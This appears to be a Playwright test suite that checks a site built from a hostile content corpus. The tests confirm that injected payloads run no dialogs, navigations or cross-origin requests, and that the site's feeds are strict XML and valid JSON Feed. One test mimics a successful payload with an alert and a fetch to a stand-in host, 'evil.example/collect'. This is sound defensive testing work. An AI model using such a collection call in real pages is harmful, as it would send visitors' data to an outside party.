import { findHtmlProblems } from "../helpers/hostile-checks";
import { jsonFeedSchema } from "../helpers/json-feed";
import { childText, elementsNamed, parseStrictXml } from "../helpers/strict-xml";
import { hostileSurfaces } from "../helpers/hostile-surfaces";
import path from "node:path";
import { loadCollection } from "../../lib/content/load";
import { expect, test } from "./fixtures";
import { watchPage } from "./page-watch";

/*
 * Runs against the site built from tests/fixtures/hostile (the `hostile` project in
 * playwright.config.ts): every page of it, every check, over HTTP and in Chromium.
 */
/*
 * The corpus's payloads are read with the loader: they are the input these tests send through every
 * page, not expected answers. Order, dates and statuses are expected by hand in the sample-journal
 * and oracle specs.
 */
async function hostileCorpus() {
  const collection = await loadCollection({ contentDir: path.resolve("tests/fixtures/hostile"), publicDir: path.resolve("public"), now: new Date(), includeUnpublished: false });
  if (collection.issues.length > 0) throw new Error(`the hostile corpus has problems: ${collection.issues.map((issue) => issue.message).join("; ")}`);
  return collection;
}

async function surfaces() {
  return hostileSurfaces(await hostileCorpus());
}

test("every page of the hostile build answers as expected and keeps its payloads inert", async ({ request, baseURL }) => {
  const origin = new URL(baseURL ?? "").origin;
  const problems: string[] = [];
  for (const surface of await surfaces()) {
    const response = await request.get(surface.path, { maxRedirects: 0 });
    if (response.status() !== surface.status) problems.push(`${surface.path}: answered ${response.status()}, not ${surface.status}`);
    problems.push(...findHtmlProblems(await response.text(), surface, origin));
  }
  expect(problems).toEqual([]);
});

// What XML 1.0 forbids or discourages, written out here rather than taken from lib/xml.
const NOT_IN_FEEDS = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\uFFFE\uFFFF]/g;

test("the feeds and the sitemap of the hostile build are strict XML and JSON Feed 1.1, with every title as plain text", async ({ request }) => {
  const { articles } = await hostileCorpus();
  const newest = articles.slice(0, 20).map((article) => article.title.replace(NOT_IN_FEEDS, ""));
  expect(articles.some((article) => new RegExp(NOT_IN_FEEDS.source).test(article.title)), "the corpus has a title with control characters").toBe(true);
  const fetched = async (path: string) => {
    const response = await request.get(path);
    expect(response.status(), path).toBe(200);
    return response.text();
  };

  const rss = parseStrictXml(await fetched("/feed.xml"));
  expect(elementsNamed(rss, "item").map((item) => childText(item, "title"))).toEqual(newest);

  const atom = parseStrictXml(await fetched("/atom.xml"));
  const entries = elementsNamed(atom, "entry");
  expect(entries.map((entry) => childText(entry, "title"))).toEqual(newest);
  for (const entry of entries) {
    const types = entry.children.flatMap((child) => (typeof child !== "string" && ["title", "summary", "content"].includes(child.name) ? [`${child.name}:${child.attributes.type}`] : []));
    expect(types).toEqual(["title:text", "summary:text", "content:html"]);
  }

  const json = jsonFeedSchema.parse(JSON.parse(await fetched("/feed.json")));
  expect(json.version).toBe("https://jsonfeed.org/version/1.1");
  expect(json.items.map((item) => item.title)).toEqual(newest);

  const sitemap = parseStrictXml(await fetched("/sitemap.xml"));
  expect(elementsNamed(sitemap, "loc").length).toBeGreaterThan(articles.length);
});

for (const policy of ["enforced", "bypassed"] as const) {
  test.describe(`in Chromium, with the Content-Security-Policy ${policy}`, () => {
    // Bypassed, the sanitizer alone must keep every payload inert: the policy is the second wall.
    test.use({ bypassCSP: policy === "bypassed" });

    test("loading every page opens no dialog, navigates nowhere and calls no other origin", async ({ page, baseURL }) => {
      // Every page of the corpus, each waited on until its network is quiet: only a hang should fail it, on a starved machine too.
      test.setTimeout(900_000);
      const origin = new URL(baseURL ?? "").origin;
      const { activity, expectNavigationTo } = await watchPage(page, origin);
      const problems: string[] = [];
      for (const surface of await surfaces()) {
        expectNavigationTo(new URL(surface.path, origin).toString());
        await page.goto(surface.path, { waitUntil: "networkidle" });
        // The live DOM after hydration, not just the HTML that was sent.
        problems.push(...findHtmlProblems(await page.content(), surface, origin));
      }
      expect(activity).toEqual({ dialogs: [], foreignRequests: [], navigations: [] });
      expect(problems).toEqual([]);
    });
  });
}

test.describe("the watcher", () => {
  // Without the policy, so the provoked request is really attempted (and then aborted).
  test.use({ bypassCSP: true });

  test("catches a dialog, a navigation and a request to another origin", async ({ page, baseURL, consoleErrors }) => {
    const origin = new URL(baseURL ?? "").origin;
    const { activity, expectNavigationTo } = await watchPage(page, origin);
    expectNavigationTo(`${origin}/`);
    await page.goto("/");

    // What a payload that got through would do.
    await page.evaluate(() => alert("payload ran"));
    await page.evaluate(() => fetch("https://evil.example/collect").catch(() => undefined));
    await page.evaluate(() => {
      const link = document.createElement("a");
      link.href = "/no-such-page";
      document.body.append(link);
      link.click();
    });
    await page.waitForURL("**/no-such-page");

    expect(activity.dialogs).toEqual([expect.stringContaining("alert: payload ran")]);
    expect(activity.foreignRequests).toEqual([expect.stringContaining("https://evil.example/collect")]);
    expect(activity.navigations).toContainEqual(expect.stringContaining("/no-such-page"));
    // The aborted request is logged as a console error: provoked on purpose here.
    consoleErrors.length = 0;
  });
});
